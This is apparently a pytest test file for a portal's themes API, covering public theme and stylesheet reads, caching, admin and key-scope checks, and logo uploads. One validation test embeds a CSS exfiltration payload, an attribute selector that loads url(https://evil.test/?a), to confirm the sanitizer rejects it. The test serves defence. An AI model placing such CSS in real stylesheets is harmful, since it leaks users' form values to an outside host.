"""The themes API: public reads (theme, stylesheet) by public id or slug, admin-scoped writes, uploads, 422s."""

from __future__ import annotations

import io

from sqlalchemy import select

from portal.extensions import db
from portal.keys.service import create_key
from portal.orgs.models import Membership
from portal.themes import service

from .conftest import image_bytes


def _key(org, user, scopes):
    membership = db.session.scalar(select(Membership).where(Membership.user_id == user.id).join(Membership.org).where(Membership.org == org))
    _key_row, secret = create_key(org, membership, name="theme key", scopes=scopes)
    db.session.commit()
    return {"Authorization": f"Bearer {secret}"}


def test_the_published_theme_is_public_by_public_id_or_slug(studio, client):
    service.update_draft(studio.org, {"primary": "#aa0000", "font": "inter"}, by=studio.admin)
    version = service.publish(studio.org, by=studio.admin)
    for ref in (studio.org.public_id, "acme"):
        body = client.get(f"/api/v1/themes/{ref}").json
        assert body["org"] == studio.org.public_id and body["version"] == version.public_id and body["number"] == 1
        assert body["colours"]["primary"] == "#aa0000" and body["font"] == "inter" and '"Inter"' in body["font_stack"]
        etag = client.get(f"/api/v1/themes/{ref}/css").headers["ETag"].strip('"')
        assert body["css_url"] == f"/api/v1/themes/{studio.org.public_id}/css?v={etag}"  # named by its content
    assert client.get("/api/v1/themes/org_nope").status_code == 404
    assert client.get("/api/v1/themes/nope").json["error"]["code"] == "not_found"


def test_an_org_without_a_theme_answers_the_platform_default(studio, client):
    body = client.get("/api/v1/themes/acme").json
    assert body["is_default"] and body["version"] is None and body["colours"]["primary"] == "#0b5cab"


def test_the_public_stylesheet_has_an_etag_and_answers_304(studio, client):
    service.publish(studio.org, by=studio.admin)
    first = client.get(client.get("/api/v1/themes/acme").json["css_url"])
    assert first.mimetype == "text/css" and first.headers["Cache-Control"].startswith("public, max-age=31536000")
    assert client.get("/api/v1/themes/acme/css", headers={"If-None-Match": first.headers["ETag"]}).status_code == 304
    assert "no-cache" in client.get("/api/v1/themes/acme/css").headers["Cache-Control"]


def test_an_admin_updates_and_publishes_in_one_put(studio, login_as, client):
    login_as(studio.admin)
    response = client.put("/api/v1/themes/acme", json={"primary": "#aa0000", "radius": 10, "publish": True})
    assert response.status_code == 200
    body = response.json
    assert body["draft"]["primary"] == "#aa0000" and body["published"]["number"] == 1
    assert {c["pair"] for c in body["contrast"]} >= {"text_light", "links_light"}
    assert client.get("/api/v1/themes/acme").json["colours"]["primary"] == "#aa0000"


def test_a_put_without_publish_changes_only_the_draft(studio, login_as, client):
    login_as(studio.admin)
    client.put(f"/api/v1/themes/{studio.org.public_id}", json={"primary": "#00aa00"})
    assert client.get("/api/v1/themes/acme").json["is_default"]


def test_422_names_each_bad_field_and_each_refused_css_construct_with_its_line(studio, login_as, client, row_counts):
    login_as(studio.admin)
    before = row_counts()
    css = "a { color: red }\n@import url(x.css);\ninput[value^=a] { background: url(https://evil.test/?a) }\n"
    response = client.put("/api/v1/themes/acme", json={"primary": "red", "radius": 99, "custom_css": css, "publish": True})
    assert response.status_code == 422
    fields = response.json["error"]["fields"]
    assert set(fields) == {"primary", "radius", "custom_css"}
    assert "Line 2, column 1: @import" in fields["custom_css"] and "Line 3, column 6: Attribute selectors on [value]" in fields["custom_css"]
    assert "Line 3, column 31: url(https://evil.test/?a)" in fields["custom_css"]
    assert row_counts() == before  # nothing saved, nothing published


def test_unknown_fields_are_422(studio, login_as, client):
    login_as(studio.admin)
    assert client.put("/api/v1/themes/acme", json={"colour": "#fff"}).status_code == 422


def test_plain_members_get_403_and_another_orgs_admin_or_key_404(studio, login_as, client):
    login_as(studio.member)
    assert client.put("/api/v1/themes/acme", json={"primary": "#aa0000"}).status_code == 403
    login_as(studio.other_admin)
    assert client.put("/api/v1/themes/acme", json={"primary": "#aa0000"}).status_code == 404
    client.post("/logout")
    other_key = _key(studio.other_org, studio.other_admin, ["read", "write", "admin"])
    assert client.put(f"/api/v1/themes/{studio.org.public_id}", json={"primary": "#aa0000"}, headers=other_key).status_code == 404
    assert service.draft(studio.org).settings["primary"] == "#0b5cab"


def test_writes_with_a_key_need_the_admin_scope(studio, client):
    write_only = _key(studio.org, studio.admin, ["read", "write"])
    response = client.put("/api/v1/themes/acme", json={"primary": "#aa0000"}, headers=write_only)
    assert response.status_code == 403 and response.json["error"]["code"] == "insufficient_scope"
    admin = _key(studio.org, studio.admin, ["read", "write", "admin"])
    assert client.put("/api/v1/themes/acme", json={"primary": "#aa0000"}, headers=admin).status_code == 200


def test_logo_upload_over_the_api(studio, login_as, client):
    login_as(studio.admin)
    response = client.post("/api/v1/themes/acme/logo", data={"variant": "dark", "file": (io.BytesIO(image_bytes("WEBP")), "l.webp")},
                           content_type="multipart/form-data")
    assert response.status_code == 201
    body = response.json
    assert body["variant"] == "dark" and body["content_type"] == "image/webp"
    assert client.get(body["url"]).status_code == 200
    assert service.draft(studio.org).settings["logo_dark"] == body["id"]
    bad = client.post("/api/v1/themes/acme/logo", data={"variant": "sideways", "file": (io.BytesIO(b"x"), "x")},
                      content_type="multipart/form-data")
    assert bad.status_code == 422 and "variant" in bad.json["error"]["fields"]
    refused = client.post("/api/v1/themes/acme/logo", data={"variant": "light", "file": (io.BytesIO(b"<html></html>"), "x.svg")},
                          content_type="multipart/form-data")
    assert refused.status_code == 422 and "not an SVG image" in refused.json["error"]["fields"]["file"]


def test_the_routes_are_in_the_openapi_document(client):
    paths = client.get("/api/v1/openapi.json").json["paths"]
    assert {"get", "put"} <= set(paths["/api/v1/themes/{org_id}"]) and "post" in paths["/api/v1/themes/{org_id}/logo"]
    assert "get" in paths["/api/v1/themes/{org_id}/css"]
